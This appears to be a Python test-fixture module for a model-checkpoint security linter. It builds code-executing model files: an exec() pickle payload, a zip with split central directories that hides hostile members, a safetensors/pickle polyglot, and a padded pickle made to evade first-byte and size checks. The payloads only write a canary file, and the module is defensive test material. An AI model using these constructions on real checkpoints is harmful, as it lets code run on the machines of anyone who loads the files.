"""Files that make a loader run code by reading the container differently from a naive reader, or
through a loader other than ``torch.load``'s unpickler. Each payload only writes ``CANARY`` into
the current directory (the tests run in a temporary one); ``tests/test_lint_attacks.py`` proves
the real loader runs each one and that ckpt flags it.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib

from tests.lint_corpus import CANARY, CODE, benign_pickle, glob, proto, text

EXEC_PAYLOAD = proto(2) + glob("builtins", "exec") + text(CODE) + b"\x85R."
"""``exec(CODE)`` at protocol 2: GLOBAL, BINUNICODE, TUPLE1, REDUCE, STOP."""


class Exec:
    """Pickles as a call of ``exec(CODE)``: the object DCP, torch.package or torch.export
    pickle for us is the payload."""

    def __reduce__(self) -> tuple:
        return exec, (CODE,)


# ---- a zip written by hand, with two central directories --------------------------------------


def _local(name: bytes, data: bytes, offset_list: list[int], out: io.BytesIO) -> None:
    offset_list.append(out.tell())
    crc = zlib.crc32(data)
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data),
                          len(data), len(name), 0) + name + data)


def _central(entries: list[tuple[bytes, bytes, int]]) -> bytes:
    out = b""
    for name, data, offset in entries:
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                           zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0,
                           offset) + name
    return out


def zip64_split(benign: dict[str, bytes], hostile: dict[str, bytes]) -> bytes:
    """One zip, two directories: the classic end record points at ``benign``'s, the zip64 end
    record (which miniz, so torch, and Python's zipfile prefer) at ``hostile``'s."""
    out, offsets = io.BytesIO(), []
    items = [(n.encode(), d) for n, d in benign.items()] + [
        (n.encode(), d) for n, d in hostile.items()]
    for name, data in items:
        _local(name, data, offsets, out)
    located = [(name, data, offset) for (name, data), offset in zip(items, offsets, strict=True)]
    first, second = located[: len(benign)], located[len(benign):]
    classic_at = out.tell()
    classic = _central(first)
    out.write(classic)
    zip64_at = out.tell()
    other = _central(second)
    out.write(other)
    record_at = out.tell()
    out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(second), len(second),
                          len(other), zip64_at))
    out.write(struct.pack("<IIQI", 0x07064B50, 0, record_at, 1))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(first), len(first), len(classic),
                          classic_at, 0))
    return out.getvalue()


def torch_members(data_pkl: bytes, folder: str = "archive") -> dict[str, bytes]:
    return {f"{folder}/data.pkl": data_pkl, f"{folder}/byteorder": b"little",
            f"{folder}/version": b"3\n"}


# ---- a valid safetensors file that is also a pickle from its first byte ---------------------


_U_LENGTHS = [k for k in range(0x20, 0x7F) if k not in (0x22, 0x5C)]
"""SHORT_BINSTRING lengths whose byte is printable JSON string text (not ``"`` or ``\\``)."""


def safetensors_polyglot(payload: bytes) -> bytes:
    """A safetensors file (one U8 tensor holding ``payload``, a metadata string) whose bytes
    from 0 are also a pickle: BINUNICODE eats the header length and the start of the JSON, then
    SHORT_BINSTRING/POP pairs written as metadata text eat the rest of the header, and the
    tensor's data is the payload pickle. safetensors loads it; torch.load, for any name but
    ``*.safetensors``, unpickles it."""
    tail = f'"}},"t":{{"dtype":"U8","shape":[{len(payload)}],"data_offsets":[0,{len(payload)}]}}}}'
    last = 100  # the final SHORT_BINSTRING covers the JSON's end and its padding
    assert len(tail) <= last
    string_length = 40  # BINUNICODE's length: the header length is 0x58 + 256 * it
    header_length = 0x58 + 256 * string_length
    prefix = '{"__metadata__":{"x":"'
    resume = 5 + string_length - 8 - len(prefix)  # where the pickle resumes, inside the string
    middle_length = header_length - len(prefix) - resume - 1 - 2 - last
    middle = ""
    while middle_length:  # SHORT_BINSTRING/POP pairs of 35 to 129 bytes, greedily
        size = middle_length - 3
        if size not in _U_LENGTHS:
            size = 97 if middle_length - 100 >= 35 else middle_length - 35 - 3
        middle += "U" + chr(size) + "a" * size + "0"
        middle_length -= size + 3
    text_value = "a" * resume + "0" + middle + "U" + chr(last)
    header = prefix + text_value + tail + " " * (last - len(tail))
    data = struct.pack("<Q", len(header)) + header.encode() + payload
    assert data[:1] == b"X" and len(header) == header_length
    return data


def plain_safetensors(tensors: dict[str, bytes]) -> bytes:
    header: dict[str, object] = {}
    offset = 0
    for name, data in tensors.items():
        header[name] = {"dtype": "U8", "shape": [len(data)],
                        "data_offsets": [offset, offset + len(data)]}
        offset += len(data)
    text_header = json.dumps(header).encode()
    return struct.pack("<Q", len(text_header)) + text_header + b"".join(tensors.values())


# ---- archives of other loaders --------------------------------------------------------------


def replace_members(archive: bytes, replacements: dict[str, bytes],
                    added: dict[str, bytes] | None = None) -> bytes:
    """The same zip with some members' bytes replaced (matched by name suffix) or added."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            data = source.read(info)
            for suffix, replacement in replacements.items():
                if info.filename.endswith(suffix):
                    data = replacement
            target.writestr(info.filename, data)
        for name, data in (added or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def torch_zip_of(data_pkl: bytes, folder: str = "archive") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in torch_members(data_pkl, folder).items():
            archive.writestr(name, data)
    return out.getvalue()


ELF_LIBRARY = b"\x7fELF\x02\x01\x01" + bytes(57)
"""The first bytes of a 64-bit ELF shared library (enough for any reader to call it one)."""


def headless_pickle(size: int) -> bytes:
    """A protocol-2 pickle without PROTO, padded past ``size`` bytes by a string it pops: no
    first-byte or size rule catches it, and ``pickle.load``/``torch.load`` run it."""
    padding = b"B" + struct.pack("<I", size) + b"x" * size + b"0"
    return padding + EXEC_PAYLOAD[2:]


def pickled(value: object, protocol: int = 2) -> bytes:
    return pickle.dumps(value, protocol=protocol)


__all__ = [
    "CANARY",
    "ELF_LIBRARY",
    "EXEC_PAYLOAD",
    "Exec",
    "benign_pickle",
    "headless_pickle",
    "pickled",
    "plain_safetensors",
    "replace_members",
    "safetensors_polyglot",
    "torch_members",
    "torch_zip_of",
    "zip64_split",
]
